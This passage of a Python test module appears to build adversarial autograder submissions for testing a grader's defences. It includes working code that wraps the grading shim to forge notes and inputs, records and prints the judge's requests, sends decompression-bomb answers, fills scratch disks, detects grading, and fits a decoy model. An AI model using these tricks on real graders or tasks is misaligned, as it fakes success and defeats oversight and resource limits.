           tamper=_add_last_cell(PRINT_HISTORY_ENCODED)),
    Attack("fill-scratch", ASSIGNMENT,
           "fills home, /tmp, /dev/shm and the runtime folder with files and /tmp with bytes",
           base="solution", cell="add_bias", code=FILL_SCRATCH),
    Attack("detect-grading", "logistic_network",
           "looks for signs of grading and prints them; sigmoid then looks for a reference",
           cell="sigmoid", code=DETECT_GRADING, tamper=_append_to_answer_cells(TRICKS_WHEN_GRADED)),
]

ATTACKS += NEW_ATTACKS


# --- the shim is the student's: what it sends back is an answer, never evidence ---------------------------

# Wrap the shim's respond: whatever the kernel sends beside a result, it can rewrite
WRAP_SHIM = """
import sys as _sys
_shim = _sys.modules.get("coursetools.student.shim")
if _shim is not None and not getattr(_shim, "wrapped", False):
    _shim.wrapped, _respond = True, _shim.respond
    def _wrapped(request, nested=False):
        return __REWRITE__(request, _respond(request, nested))
    _shim.respond = _wrapped
"""

# compare_models keeps MLPClassifier's default relu; the answer says "logistic" where notes used to go
RELU_COMPARE = {"compare_models": """
def compare_models(train_x, train_y, test_x, test_y):
    mlp = MLPClassifier(hidden_layer_sizes=(4,), max_iter=10000).fit(train_x, train_y)
    logistic = LogisticRegression(solver="lbfgs").fit(train_x, train_y)
    return {"mlp": mlp.score(test_x, test_y), "logistic": logistic.score(test_x, test_y)}
"""}
FORGED_NOTES = WRAP_SHIM.replace("__REWRITE__", "_forge_notes") + """
def _forge_notes(request, response):
    response["notes"] = {key: ["logistic"] * 4 for key in ("activations", "0", "1", "2", "3")}
    return response
"""
# a logistic MLP built and fitted for the judge's eyes, and the answer from a relu MLP imported another way
DECOY_COMPARE = {"compare_models": """
def compare_models(train_x, train_y, test_x, test_y):
    from sklearn.neural_network._multilayer_perceptron import MLPClassifier as Unwatched

    MLPClassifier(hidden_layer_sizes=(4,), activation="logistic", max_iter=10000).fit(train_x, train_y)
    mlp = Unwatched(hidden_layer_sizes=(4,), max_iter=10000).fit(train_x, train_y)
    logistic = LogisticRegression(solver="lbfgs").fit(train_x, train_y)
    return {"mlp": mlp.score(test_x, test_y), "logistic": logistic.score(test_x, test_y)}
"""}

# add_bias changes the caller's frame; the shim answers the inputs after the call with copies from before
MUTATING_ADD_BIAS = {"add_bias": """
def add_bias(features):
    features["bias"] = 1
    return features
"""}
FORGED_INPUTS = WRAP_SHIM.replace("__REWRITE__", "_forge_inputs") + """
def _forge_inputs(request, response):
    if request.get("inputs_after") and "result" in response:
        response["inputs_after"] = request["args"]  # the inputs as they came, before the call
    return response
"""

# every request and every reply of the judge, kept and printed by a last cell
RECORD_REQUESTS = WRAP_SHIM.replace("__REWRITE__", "_record") + """
_sys.modules["builtins"].recorded_requests = _recorded = []
def _record(request, response):
    _recorded.append(str(request))
    return response
if _shim is not None and not getattr(_shim, "asked", False):
    _shim.asked, _ask = True, _shim._ask_judge
    def _asked(text):
        reply = _ask(text)
        _recorded.append(reply)
        return reply
    _shim._ask_judge = _asked
"""
PRINT_REQUESTS = """
import builtins
for _line in getattr(builtins, "recorded_requests", []):
    print("request:", _line)
"""

# answers of a few hundred bytes that pandas would broadcast to ten and a thousand times the answer budget,
# and a list of lists that json would read into ten times of it
BOMB_ANSWERS = WRAP_SHIM.replace("__REWRITE__", "_bomb") + """
import base64 as _base64
import io as _io
import itertools as _itertools

def _header_only(rows):
    buffer = _io.BytesIO()
    np.lib.format.write_array_header_1_0(buffer, {"descr": "<f8", "fortran_order": False, "shape": (rows,)})
    return _base64.b64encode(buffer.getvalue()).decode()

def _bombs():
    for times in (10, 1000):
        rows = times * 64 * 2**20 // 8
        one, index = {"numpy": _shim.wire._npy(np.array(1.0))}, {"range": [0, rows, 1], "name": None}
        yield {"$series": {"values": one, "index": index, "name": None}}
        yield {"$frame": {"columns": {"range": [0, 3, 1], "name": None}, "data": [one] * 3, "index": index}}
        yield {"$series": {"values": {"numpy": _header_only(rows)},
                           "index": {"numbers": _header_only(rows), "name": None}, "name": None}}
        yield [1, [{"$array": _header_only(rows)}]]
        yield {"$dict": [["key", {"$tuple": [{"$array": _header_only(rows)}]}]]}
    yield [[]] * (10 * 64 * 2**20 // 80)

if _shim is not None:
    _answers = _itertools.cycle(list(_bombs()))
def _bomb(request, response):
    return {"result": next(_answers)}
"""

SHIM_ATTACKS = [
    Attack("forged-notes", "hidden_layers",
           "compare_models keeps relu; a wrapped shim adds notes that every MLP was logistic",
           cell="hidden_layer_forward", code=FORGED_NOTES, tamper=_append_to_answer_cells(RELU_COMPARE),
           baseline=RELU_COMPARE),
    Attack("decoy-model", "hidden_layers",
           "fits a logistic MLP for the tests to see and answers with a relu MLP imported another way",
           tamper=_append_to_answer_cells(DECOY_COMPARE), baseline=RELU_COMPARE),
    Attack("forged-inputs", ASSIGNMENT,
           "add_bias changes its input; a wrapped shim answers the inputs after the call with those before",
           cell="add_bias", code=FORGED_INPUTS, tamper=_append_to_answer_cells(MUTATING_ADD_BIAS),
           baseline=MUTATING_ADD_BIAS),
    Attack("record-requests", "digits_cv",
           "a wrapped shim keeps every request and reply of the judge; a last cell prints them",
           base="solution", cell="load_digits_frame", code=RECORD_REQUESTS,
           tamper=_add_last_cell(PRINT_REQUESTS)),
    Attack("bomb-answers", ASSIGNMENT,
           "a wrapped shim answers every call with a value that would decode to 10 or 1000 times the budget",
           cell="add_bias", code=BOMB_ANSWERS),
]

ATTACKS += SHIM_ATTACKS


def submit_attack(root: Path, attack: Attack, port: int) -> str:
    """Build submitted/attack-<name>/<assignment>/ in course `root` (release/ and solutions/ exist there),
    and submitted/baseline-<name>/<assignment>/ when the attack has a baseline; return the student id."""
    kind = {"release": "release", "solution": "solutions"}[attack.base]
    notebook = nbformat.read(notebook_path(root, kind, attack.assignment), as_version=4)
    if attack.baseline:
        _write(root, attack.assignment, attack.baseline_student,
               _append_to_answer_cells(attack.baseline)(nbformat.from_dict(notebook), None))
    if attack.cell:
        code = attack.code.replace(PORT_TOKEN, str(port))
        cells = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == attack.cell]
        if len(cells) != 1 or not _is_answer(cells[0]):
            raise KeyError(f"no answer cell {attack.cell!r} in {attack.assignment}")
        cells[0].source = f"{code}\n{cells[0].source}"
    target = _write(root, attack.assignment, attack.student, None)
    if attack.tamper is not None:
        notebook = attack.tamper(notebook, target.parent)
    if notebook is not None:
        nbformat.write(notebook, target)
    return attack.student


def _write(root, assignment, student, notebook):
    """submitted/<student>/<assignment>/, made anew, with `notebook` in it (unless None); its path."""
    target = notebook_path(root, "submitted", assignment, student)
    if target.parent.exists():
        shutil.rmtree(target.parent)
    target.parent.mkdir(parents=True)
    if notebook is not None:
        nbformat.write(notebook, target)
    return target
